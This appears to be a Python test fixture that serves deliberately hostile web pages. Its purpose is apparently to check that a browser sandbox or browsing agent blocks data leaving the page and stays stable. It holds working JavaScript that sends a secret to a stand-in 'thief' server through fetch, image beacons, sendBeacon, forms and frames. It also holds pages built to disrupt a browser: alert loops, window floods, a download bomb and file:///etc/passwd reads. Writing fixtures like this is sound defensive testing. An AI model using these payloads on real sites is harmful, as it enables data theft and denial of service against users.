"""Pages that mean harm, and the place that they would like to reach: what arrives there is kept."""

# ruff: noqa: E501 - a page is easier to read on one line

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, RedirectResponse, Response, StreamingResponse
from starlette.routing import Route

__all__ = ["HOSTILE", "Thief", "create_app"]

LEAVES = {
    "link": "<a href='{thief}/link?{secret}'>Go</a>",
    "script": "<button onclick=\"location = '{thief}/script?' + document.querySelector('input').value\">Go</button>",
    "redirect": "<a href=/away>Go</a>",
    "refresh": "<button onclick=\"document.head.innerHTML = '<meta http-equiv=refresh content=&quot;0;url={thief}/refresh&quot;>'\">Go</button>",
    "form": "<form method=post action='{thief}/form'><input name=n value='{secret}'><button>Go</button></form>",
    "frame": "<button onclick=\"document.body.innerHTML += '<iframe src={thief}/frame></iframe>'\">Go</button>",
    "window": "<button onclick=\"window.open('{thief}/window?{secret}')\">Go</button>",
}
"""Ways out of the origin that are told as such."""

SILENT = {
    "fetch": "fetch('{thief}/fetch?{secret}', {mode: 'no-cors'}).catch(() => 0)",
    "image": "new Image().src = '{thief}/image?{secret}'",
    "beacon": "navigator.sendBeacon('{thief}/beacon', '{secret}')",
    "socket": "try { new WebSocket('{thief}/socket'.replace('http', 'ws')) } catch (e) {}",
    "worker": "navigator.serviceWorker && navigator.serviceWorker.register('/worker.js').catch(() => 0)",
    "style": "document.head.innerHTML += '<style>@import url({thief}/style)</style>'",
    "preconnect": "document.head.innerHTML += '<link rel=prefetch href={thief}/prefetch>'",
}
"""Ways out that leave the page as it is: blocked in the network, and the work goes on."""

HOSTILE = {
    "windows": "<button onclick=\"for (let i = 0; i < 100; i++) window.open('/blank?' + i)\">Go</button>",
    "dialogs": "<button onclick=\"while (true) alert('again')\">Go</button>",
    "timer": "<button onclick=\"setInterval(() => alert('again'), 1)\">Go</button>",
    "print": '<button onclick="for (let i = 0; i < 50; i++) print()">Go</button>',
    "question": "<button onclick=\"confirm('Delete everything?')\">Go</button>",
    "close": '<button onclick="window.close()">Go</button>',
    "never": "<a href=/stuck>Go</a>",
    "busy": '<button onclick="while (true);">Go</button>',
    "growth": "<button onclick=\"setInterval(() => { for (let i = 0; i < 200; i++) document.body.append(document.createElement('p')) }, 5)\">Go</button>",
    "bomb": "<button onclick=\"location = '/endless'\">Go</button>",
    "files": "<button onclick=\"for (let i = 0; i < 20; i++) { const a = document.createElement('a'); a.href = '/file'; a.download = 'x'; a.click() }\">Go</button>",
    "disk": "<button onclick=\"location = 'file:///etc/passwd'\">Go</button><iframe src=file:///etc/passwd></iframe>",
}


@dataclass
class Thief:
    """What reached the place outside, and what was entered inside."""

    url: str = ""
    seen: list[str] = field(default_factory=list)
    entered: list[str] = field(default_factory=list)

    def app(self) -> Starlette:
        """The place outside."""

        async def see(request: Request) -> Response:
            self.seen.append(str(request.url))
            return HTMLResponse("thanks", headers={"Access-Control-Allow-Origin": "*"})

        return Starlette(routes=[Route("/{path:path}", see, methods=["GET", "POST"])])


def create_app(thief: Thief, secret: str) -> Starlette:
    """The system that means harm: each page at /NAME, with a field, something to press, and a save."""

    async def show(request: Request) -> Response:
        name = request.path_params["name"]
        silent = SILENT.get(name)
        body = f"<script>{silent}</script><p>Go</p>" if silent else LEAVES.get(name) or HOSTILE.get(name, "blank")
        body = body.replace("{thief}", thief.url).replace("{secret}", secret)
        save = "<form method=post action=/save><label>Number <input name=number></label><button>Save</button></form>"
        return HTMLResponse(f"<!DOCTYPE html><head></head><body>{save}{body}</body>")

    async def save(request: Request) -> Response:
        async with request.form() as form:
            thief.entered.append(str(form["number"]))
        return HTMLResponse("saved")

    async def stuck(_request: Request) -> Response:
        await asyncio.sleep(3600)
        return Response()

    async def endless(_request: Request) -> Response:
        async def parts() -> AsyncIterator[bytes]:
            while True:
                yield b"0" * 100_000
                await asyncio.sleep(0.01)

        return StreamingResponse(parts(), headers={"Content-Disposition": "attachment; filename=bomb.bin"})

    routes = [
        Route("/save", save, methods=["POST"]), Route("/stuck", stuck), Route("/endless", endless),
        Route("/away", lambda _request: RedirectResponse(f"{thief.url}/redirect?{secret}")),
        Route("/file", lambda _request: Response(b"x", headers={"Content-Disposition": "attachment; filename=x.exe"})),
        Route("/{name}", show),
    ]  # fmt: skip
    return Starlette(routes=routes)
